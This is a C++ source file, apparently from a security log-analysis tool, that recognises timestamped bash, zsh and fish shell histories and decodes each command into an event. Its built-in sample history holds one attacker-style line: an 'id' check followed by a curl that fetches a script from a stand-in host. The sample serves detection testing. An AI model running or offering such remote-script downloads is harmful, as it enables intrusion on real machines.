// SPDX-License-Identifier: Apache-2.0
// Shell histories that say when: bash with HISTTIMEFORMAT (`#1773127800` above each command), zsh with
// EXTENDED_HISTORY
// (`: 1773127800:0;command`, a backslash before a line end inside it), fish (`- cmd: command`, `  when:
// 1773127800`). A history without times looks like any text and is not recognised.
#include <charconv>
#include <string>

#include "base/limits.h"
#include "decode/decoder.h"
#include "decode/lines.h"

namespace bartizan {
namespace {

bool is_digits(std::string_view text) {
  constexpr std::size_t kSecondsDigitsMin = 9, kSecondsDigitsMax = 10;  // from 1973 to 2286
  return text.size() >= kSecondsDigitsMin && text.size() <= kSecondsDigitsMax &&
         text.find_first_not_of("0123456789") == text.npos;
}

bool is_bash_time(std::string_view line) { return line.starts_with('#') && is_digits(line.substr(1)); }

bool is_zsh_entry(std::string_view line) {
  if (!line.starts_with(": ")) return false;
  const std::size_t colon = line.find(':', 2), semicolon = line.find(';');
  return colon != line.npos && semicolon != line.npos && colon < semicolon &&
         is_digits(line.substr(2, colon - 2));
}

bool is_fish_entry(std::string_view line) { return line.starts_with("- cmd: "); }

bool begins_entry(std::string_view line) {
  return is_bash_time(line) || is_zsh_entry(line) || is_fish_entry(line);
}

std::string_view line_at(std::string_view text, std::size_t at) {
  std::string_view line = text.substr(at, text.find('\n', at) - at);
  if (line.ends_with('\r')) line.remove_suffix(1);
  return line;
}

// Cuts before the last line that begins an entry.
class HistoryCutter final : public Cutter {
 public:
  std::size_t cut(Bytes buffer, bool at_end) override {
    if (at_end || buffer.size() >= limits::kPieceBytesMax) return buffer.size();
    const std::string_view text = as_text(buffer);
    for (std::size_t end = text.size(); end > 0;) {
      const std::size_t feed = text.rfind('\n', end - 1);
      if (feed == text.npos) return 0;
      // A line that is not complete cannot be judged.
      if (text.find('\n', feed + 1) != text.npos && begins_entry(line_at(text, feed + 1))) return feed + 1;
      end = feed;
    }
    return 0;
  }
};

class HistoryDecoder final : public Decoder {
 public:
  void decode(const Piece& piece, EventBatch& out, OddityList&) override {
    const std::string_view text = as_text(piece.bytes);
    for (std::size_t at = 0; at < text.size();) {
      const std::size_t begin = at;
      std::size_t end = next_line(text, at);
      while (end < text.size() && !begins_entry(line_at(text, end))) end = next_line(text, end);
      add_entry(text.substr(begin, end - begin), piece.offset + begin, out);
      at = end;
    }
  }

 private:
  static std::size_t next_line(std::string_view text, std::size_t at) {
    const std::size_t feed = text.find('\n', at);
    return feed == text.npos ? text.size() : feed + 1;
  }

  static void add_entry(std::string_view entry, std::uint64_t offset, EventBatch& out) {
    while (entry.ends_with('\n') || entry.ends_with('\r')) entry.remove_suffix(1);
    std::string_view command = entry, seconds, shell;
    if (const std::string_view first = line_at(entry, 0); is_bash_time(first)) {
      shell = "bash", seconds = first.substr(1);
      command = entry.substr(std::min(entry.find('\n'), entry.size() - 1) + 1);
    } else if (is_zsh_entry(first)) {
      shell = "zsh", seconds = first.substr(2, first.find(':', 2) - 2);
      command = entry.substr(entry.find(';') + 1);
    } else if (is_fish_entry(first)) {
      shell = "fish", command = first.substr(7);
      if (const std::size_t when = entry.find("\n  when: "); when != entry.npos)
        seconds = line_at(entry, when + 9);
    }
    if (command.empty()) return;
    Event& event = out.start();
    event.offset = offset;
    std::int64_t value = 0;
    if (is_digits(seconds)) std::from_chars(seconds.data(), seconds.data() + seconds.size(), value);
    event.time = {value * kTicksPerSecond};
    event.product = "linux", event.service = "shell_history";
    if (!shell.empty()) out.add("Shell", shell);
    out.add("CommandLine", out.keep(command));
    out.commit();
  }
};

int recognise(Bytes head) {
  std::size_t entries = 0, lines = 0;
  bool first = false;
  for_each_line(as_text(head), [&](std::string_view line, std::size_t) {
    if (++lines == 1) first = begins_entry(line);
    entries += begins_entry(line);
  });
  if (!first || lines < 2) return first && is_zsh_entry(line_at(as_text(head), 0)) ? 70 : 0;
  // Commands of many lines are rare, notes that begin with a number are not.
  return entries * 4 >= lines ? 80 : 0;
}

}  // namespace

const Format& shell_history_format() {
  static constexpr Format kFormat{
      "shell_history",
      "Shell history with times: bash, zsh, fish",
      "linux: shell_history (process_creation by mapping)",
      recognise,
      []() -> std::unique_ptr<Cutter> { return std::make_unique<HistoryCutter>(); },
      [](const DecodeOptions&) -> std::unique_ptr<Decoder> { return std::make_unique<HistoryDecoder>(); },
      nullptr,
      "#1795507200\n"
      "id\n"
      "#1795507210\n"
      "curl -s http://192.0.2.9/x.sh\n"};
  return kFormat;
}

}  // namespace bartizan
